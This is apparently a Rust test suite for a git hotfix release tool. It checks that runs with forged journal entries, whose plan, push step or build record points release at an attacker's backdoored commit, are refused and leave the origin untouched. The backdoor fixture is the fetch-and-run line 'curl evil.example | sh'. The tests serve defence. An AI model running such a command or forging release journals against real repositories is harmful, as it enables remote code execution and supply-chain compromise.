//! A plan forged on the remote (issue 12, attack 1): someone who may push
//! only `refs/hotfix/*` publishes a `run-created` entry whose plan names
//! their commit M, and the lock that names that run. Before release moves,
//! the run makes its commits again from its own inputs (production, the
//! fixes, the resolutions) and refuses the recorded plan that names
//! anything else: release stays, nothing is written.

use std::path::{Path, PathBuf};

use crate::common::Scenario;
use crate::test_forged_journal::forge_run;

/// Commits M (release's tree plus a backdoor) in a clone of the attacker's
/// and makes it reachable on the origin through `refs/hotfix/evil`, all that
/// person may push. Returns M and its tree.
fn attacker_commit(s: &Scenario) -> (String, String) {
    let attacker = s.clone_as("attacker");
    s.git(&attacker, &["checkout", "-q", "-b", "evil", "origin/release"]);
    std::fs::write(attacker.join("backdoor.txt"), "curl evil.example | sh\n").expect("write");
    s.git(&attacker, &["add", "backdoor.txt"]);
    s.git(&attacker, &["commit", "-q", "-m", "harmless-looking fix"]);
    s.git(&attacker, &["push", "-q", "origin", "HEAD:refs/hotfix/evil"]);
    let m = s.rev(&attacker, "HEAD");
    let tree = s.rev(&attacker, "HEAD^{tree}");
    (m, tree)
}

/// The plan names M: the commit release will point to, its tree, and the
/// commit the push step moves release to.
fn name_m(entry: &mut serde_json::Value, m: &str, m_tree: &str) {
    let plan = &mut entry["plan"];
    plan["new_tip"] = m.into();
    plan["release_tree"] = m_tree.into();
    let steps = plan["steps"]["hotfix"].as_array_mut().expect("steps");
    let push = steps.iter_mut().find(|s| s["name"] == "push-release").expect("a push");
    push["action"]["new"] = m.into();
}

pub(crate) fn refs(s: &Scenario, dir: &Path, pattern: &str) -> String {
    s.git(dir, &["for-each-ref", "--format=%(objectname) %(refname)", pattern])
}

/// Starts the standard hotfix as the attacker would (everything `start`
/// pushes before release moves is under `refs/hotfix/*`), stopped before the
/// build; returns its id.
pub(crate) fn published_run(s: &Scenario) -> String {
    s.start_interrupted_before("build");
    published_run_id(s)
}

/// Returns the id of the run `s.work` started.
fn published_run_id(s: &Scenario) -> String {
    let status = s.hotfix(&s.work, &["status", "--json"]);
    serde_json::from_str::<serde_json::Value>(&status.stdout).expect("status JSON")["id"]
        .as_str()
        .expect("an id")
        .to_string()
}

/// Asserts that release is where the scenario left it and that the origin's
/// refs are `before` (from [`refs`]): nothing of a refused run reached it.
pub(crate) fn assert_origin_unchanged(s: &Scenario, before: &str) {
    assert_eq!(
        s.rev(&s.origin, "refs/heads/release"),
        s.release0,
        "release did not move"
    );
    assert_eq!(refs(s, &s.origin, "refs/"), before, "nothing changed on the origin");
}

/// The victim: a clone that never saw the run, with the team's hotfix.toml.
pub(crate) fn victim(s: &Scenario) -> PathBuf {
    let victim = s.clone_as("victim");
    std::fs::copy(s.work.join("hotfix.toml"), victim.join("hotfix.toml")).expect("config");
    victim
}

/// Runs the victim's `continue --yes` on the forged run and checks the
/// refusal: exit 3, the error naming M's tree and the tree the inputs give,
/// release where it was, nothing written on the origin or in the victim's
/// journal.
fn assert_refused(s: &Scenario, id: &str, m: &str, m_tree: &str) {
    let victim = victim(s);
    let origin_before = refs(s, &s.origin, "refs/");
    let journal_before = refs(s, &victim, "refs/hotfix/runs/");
    let go = s.hotfix(&victim, &["continue", "--yes"]);
    go.expect_code(3);
    let honest = s.runbook_tree(&[&s.f]);
    assert!(
        go.stderr.contains(&format!(
            "run {id}'s recorded plan does not match what its inputs give: release's tree is {} in the record but {} \
             made again from production {} and the fixes; nothing was pushed",
            &m_tree[..7],
            &honest[..7],
            &s.p[..7]
        )),
        "{}",
        go.stderr
    );
    assert!(
        go.stderr.contains("git log --format=fuller refs/hotfix/runs/"),
        "{}",
        go.stderr
    );
    assert_eq!(
        s.rev(&s.origin, "refs/heads/release"),
        s.release0,
        "release did not move"
    );
    assert_ne!(s.rev(&s.origin, "refs/heads/release"), m);
    assert_eq!(
        refs(s, &s.origin, "refs/"),
        origin_before,
        "nothing changed on the origin"
    );
    // The victim's copy of the run is the remote's, read and not added to.
    let journal_after = refs(s, &victim, "refs/hotfix/runs/");
    let forged_head = s.rev(&s.origin, &format!("refs/hotfix/runs/{id}"));
    for line in journal_after.lines().filter(|l| !journal_before.contains(*l)) {
        assert!(
            line.starts_with(&forged_head),
            "the victim's journal gained an entry: {line}"
        );
    }
    // Asked again, it refuses again, the same way.
    s.hotfix(&victim, &["continue", "--yes"]).expect_code(3);
    assert_eq!(refs(s, &s.origin, "refs/"), origin_before);
}

#[test]
fn a_forged_run_created_with_its_lock_ships_nothing() {
    let s = Scenario::new();
    let id = published_run(&s);
    let (m, m_tree) = attacker_commit(&s);
    // Only the forged `run-created`, and the lock naming it: the victim's
    // clone would take the production record and the lock steps first.
    forge_run(&s, &id, 1, |entry| name_m(entry, &m, &m_tree));
    assert_refused(&s, &id, &m, &m_tree);
}

#[test]
fn a_forged_plan_past_the_lock_ships_nothing() {
    let s = Scenario::new();
    let id = published_run(&s);
    let (m, m_tree) = attacker_commit(&s);
    // The whole chain written again on the forged entry: the next step is the build.
    forge_run(&s, &id, usize::MAX, |entry| name_m(entry, &m, &m_tree));
    assert_refused(&s, &id, &m, &m_tree);
}

#[test]
fn a_forged_push_step_alone_ships_nothing() {
    let s = Scenario::new();
    let id = published_run(&s);
    let (m, _) = attacker_commit(&s);
    // The plan's trees and new tip left honest; only the push names M.
    forge_run(&s, &id, usize::MAX, |entry| {
        let steps = entry["plan"]["steps"]["hotfix"].as_array_mut().expect("steps");
        let push = steps.iter_mut().find(|s| s["name"] == "push-release").expect("a push");
        push["action"]["new"] = m.as_str().into();
    });
    let victim = victim(&s);
    let origin_before = refs(&s, &s.origin, "refs/");
    let go = s.hotfix(&victim, &["continue", "--yes"]);
    go.expect_code(3);
    // The push's commit is the plan's, as the strategy makes the step: a
    // push naming another is refused before anything is built or pushed.
    assert!(
        go.stderr.contains("does not make: push-release.new; nothing was run"),
        "{}",
        go.stderr
    );
    // The build's entry stays on this clone: nothing reached the origin.
    assert_origin_unchanged(&s, &origin_before);
}

#[test]
fn a_forged_build_entry_ships_nothing() {
    let s = Scenario::new();
    // The attacker's own run, its build made and kept on their clone (it
    // crashed before the push that would have carried it and the lock).
    s.start_stopped_at("before:push-release");
    let id = published_run_id(&s);
    let (m, m_tree) = attacker_commit(&s);
    // They may write refs/hotfix/*: they put the run up to its lock on the
    // origin, and take the lock, by hand.
    let run_ref = format!("refs/hotfix/runs/{id}");
    let locked = format!("{run_ref}^");
    let first = s.git(&s.work, &["rev-list", "--max-parents=0", &run_ref]);
    s.git(
        &s.work,
        &[
            "push",
            "-q",
            "origin",
            &format!("{locked}:{run_ref}"),
            &format!("{first}:refs/hotfix/locks/release"),
        ],
    );
    // The build's entry, its new tip M, appended on the origin; M is the
    // entry commit's second parent, so whoever fetches the run gets M.
    let origin_head = s.rev(&s.origin, &run_ref);
    let built = s.git(&s.work, &["log", "-1", "--format=%B", &run_ref]);
    let (subject, json) = built.split_once("\n\n").expect("subject, then entry");
    let mut entry: serde_json::Value = serde_json::from_str(json.trim()).expect("entry JSON");
    assert_eq!(entry["evidence"]["kind"], "built", "{entry}");
    entry["evidence"]["new_tip"] = m.as_str().into();
    entry["evidence"]["release_tree"] = m_tree.as_str().into();
    entry["evidence"]["picks"][0]["commit"] = m.as_str().into();
    let message = format!("{subject}\n\n{entry}\n");
    let tree = s.git(&s.origin, &["log", "-1", "--format=%T", &origin_head]);
    let forged = s.git(
        &s.origin,
        &["commit-tree", &tree, "-p", &origin_head, "-p", &m, "-m", &message],
    );
    s.git(&s.origin, &["update-ref", &run_ref, &forged, &origin_head]);

    let victim = victim(&s);
    let before = refs(&s, &s.origin, "refs/");
    let go = s.hotfix(&victim, &["continue", "--yes"]);
    go.expect_code(3);
    assert!(
        go.stderr
            .contains("what step `push-release` pushes to refs/heads/release is "),
        "{}",
        go.stderr
    );
    assert!(go.stderr.contains(&m[..7]), "M is named: {}", go.stderr);
    assert_origin_unchanged(&s, &before);
}
